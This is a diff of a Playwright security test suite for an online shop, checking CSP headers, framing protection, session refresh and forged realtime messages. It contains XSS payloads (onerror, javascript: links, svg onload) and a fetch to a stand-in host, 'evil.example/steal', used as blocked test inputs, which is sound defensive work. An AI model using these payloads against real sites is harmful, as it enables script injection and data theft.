@@ -1,9 +1,9 @@
 import type { Page, WebSocketRoute } from '@playwright/test'
-import { callAs, sessionOf } from './admin.ts'
-import { expect, test } from './fixtures.ts'
-import { cartDrawer, signUp } from './shopping.ts'
+import { callAs, createSession } from './support/session.ts'
+import { expect, test } from './support/fixtures.ts'
+import { cartDrawer, signUp } from './support/checkout.ts'
 
-// Attacks that need a browser. The row numbers are those of docs/security.md.
+// Attacks that need a browser. The numbers are the rows of docs/security.md.
 
 const h1 = (page: Page) => page.getByRole('heading', { level: 1 })
 
@@ -26,7 +26,7 @@ const PAGES = [
   '/nowhere',
 ]
 
-/** Collects what the browser refused because of the policy, from before the first script runs. */
+/** Collects violations of the content security policy, from before the first script runs. */
 async function watchPolicy(page: Page): Promise<() => Promise<string[]>> {
   await page.addInitScript(() => {
     const seen: string[] = []
@@ -38,33 +38,37 @@ async function watchPolicy(page: Page): Promise<() => Promise<string[]>> {
   return () => page.evaluate(() => (window as unknown as { refusedByPolicy: string[] }).refusedByPolicy)
 }
 
-test.describe('52 the headers of production', () => {
-  test('every page keeps to them', async ({ page, stockroom }) => {
-    test.slow()
-    const lantern = await stockroom.add({ price: 200, stock_quantity: 5 })
-    const refused = await watchPolicy(page)
-    await signUp(page)
-    for (const path of [...PAGES, `/product/${lantern.id}`, '/account', '/account?section=profile']) {
-      const answer = await page.goto(path)
-      expect(answer?.headers()['content-security-policy'], path).toContain(`frame-ancestors 'none'`)
-      expect(answer?.headers()['x-content-type-options'], path).toBe('nosniff')
-      await expect(h1(page), path).toBeVisible()
-      expect(await refused(), path).toEqual([])
-    }
-    // With something in the cart, the drawer and the way to the checkout.
-    await page.goto(`/product/${lantern.id}`)
-    await page.getByRole('button', { name: 'Add to Cart', exact: true }).click()
-    await expect(cartDrawer(page)).toBeVisible()
-    expect(await refused()).toEqual([])
-    await page.goto('/checkout')
-    await expect(page.getByLabel('First name')).toBeVisible()
-    expect(await refused()).toEqual([])
-  })
+test.describe('52 security headers', () => {
+  test(
+    'every page complies with the content security policy',
+    { tag: '@smoke' },
+    async ({ page, stockroom }) => {
+      test.slow()
+      const lantern = await stockroom.add({ price: 200, stock_quantity: 5 })
+      const refused = await watchPolicy(page)
+      await signUp(page)
+      for (const path of [...PAGES, `/product/${lantern.id}`, '/account', '/account?section=profile']) {
+        const answer = await page.goto(path)
+        expect(answer?.headers()['content-security-policy'], path).toContain(`frame-ancestors 'none'`)
+        expect(answer?.headers()['x-content-type-options'], path).toBe('nosniff')
+        await expect(h1(page), path).toBeVisible()
+        expect(await refused(), path).toEqual([])
+      }
+      // The cart drawer and the checkout.
+      await page.goto(`/product/${lantern.id}`)
+      await page.getByRole('button', { name: 'Add to Cart', exact: true }).click()
+      await expect(cartDrawer(page)).toBeVisible()
+      expect(await refused()).toEqual([])
+      await page.goto('/checkout')
+      await expect(page.getByLabel('First name')).toBeVisible()
+      expect(await refused()).toEqual([])
+    },
+  )
 
-  test.describe('against what was put in', () => {
+  test.describe('against injected content', () => {
     test.use({ expectedErrors: /Content Security Policy|frame-ancestors|Refused to|ERR_BLOCKED/ })
 
-    test('scripts, handlers and addresses of other origins do nothing', async ({ page }) => {
+    test('scripts, event handlers and requests to other origins are blocked', async ({ page }) => {
       const refused = await watchPolicy(page)
       await page.goto('/terms')
       await expect(h1(page)).toBeVisible()
@@ -78,7 +82,9 @@ test.describe('52 the headers of production', () => {
         image.src = '/nothing.png'
         const base = document.createElement('base')
         base.href = 'https://evil.example/'
-        document.head.append(script, foreign, base)
+        const style = document.createElement('style')
+        style.textContent = 'body { color: red }'
+        document.head.append(script, foreign, base, style)
         document.body.append(image)
         void fetch('https://evil.example/steal').catch(() => undefined)
       })
@@ -91,13 +97,14 @@ test.describe('52 the headers of production', () => {
             'script-src-attr',
             'script-src-elem',
             'script-src-elem',
+            'style-src-elem',
           ]),
         )
       expect(await page.evaluate(() => 'canary' in window)).toBe(false)
     })
 
-    test('no other page shows the shop in a frame', async ({ page, baseURL }) => {
-      // Even a page of the same origin, which a browser would trust most.
+    test('another page cannot show the shop in a frame', async ({ page, baseURL }) => {
+      // Not even a page of the same origin may embed the shop.
       await page.route('**/win-a-tagine', (route) =>
         route.fulfill({
           contentType: 'text/html',
@@ -112,14 +119,14 @@ test.describe('52 the headers of production', () => {
   })
 })
 
-test.describe('49 a product’s texts are markup', () => {
+test.describe('49 product texts contain markup', () => {
   const MARKUP = `<img src=x onerror="window.canary=1"></script><script>window.canary=1</script>`
   const LINK =
     '[free](javascript:window.canary=1) <a href="javascript:window.canary=1">free</a> <svg onload=canary()>'
 
-  test('and are shown as they were typed', async ({ page }) => {
+  test('and are shown as plain text', async ({ page }) => {
     test.slow()
-    const admin = await sessionOf('admin')
+    const admin = await createSession('admin')
     const categories = (await (
       await callAs(admin, 'GET', '/rest/v1/categories?select=id&limit=1')
     ).json()) as {
@@ -173,11 +180,11 @@ test.describe('49 a product’s texts are markup', () => {
   })
 })
 
-test.describe('56 four tabs find their session over at once', () => {
-  // Whoever comes second is told so by the service, and takes what the first one got.
+test.describe('56 four tabs find an expired session at once', () => {
+  // Later tabs get an error for the used refresh token and take the session of the first.
   test.use({ expectedErrors: /40[01]|AuthApiError/ })
 
-  test('and all of them go on', async ({ page, context }) => {
+  test('and all of them stay signed in', async ({ page, context }) => {
     test.slow()
     await signUp(page)
     const tabs = [page, await context.newPage(), await context.newPage(), await context.newPage()]
@@ -196,13 +203,10 @@ test.describe('56 four tabs find their session over at once', () => {
   })
 })
 
-test('62 a forged announcement of a price is a reason to look, and not a price', async ({
-  page,
-  stockroom,
-}) => {
+test('62 a forged realtime message with a price only triggers a refetch', async ({ page, stockroom }) => {
   const product = await stockroom.add({ price: 777, stock_quantity: 5 })
   const sockets: WebSocketRoute[] = []
-  // What the server calls each subscription; a change that names another one would be passed over.
+  // The server's ids of the subscriptions; messages with other ids are ignored.
   const subscriptions = new Map<string, number[]>()
   await page.routeWebSocket(/\/realtime\/v1\//, (socket) => {
     const server = socket.connectToServer()
@@ -260,12 +264,12 @@ test('62 a forged announcement of a price is a reason to look, and not a price',
       ]),
     )
   }
-  // Heard, and taken for a reason to look.
+  // The message triggers a refetch.
   await looked
   await expect(h1(page)).toHaveText(product.name)
   await expect(page.getByRole('main')).toContainText('777 DH')
   await expect(page.getByRole('main')).not.toContainText('Forged')
-  // A change that is real, so that the page has certainly been read again since.
+  // A real change, so that a refetch has certainly happened since.
   await stockroom.change(product.id, { price: 778 })
   await expect(page.getByRole('main')).toContainText('778 DH')
   await expect(h1(page)).toHaveText(product.name)
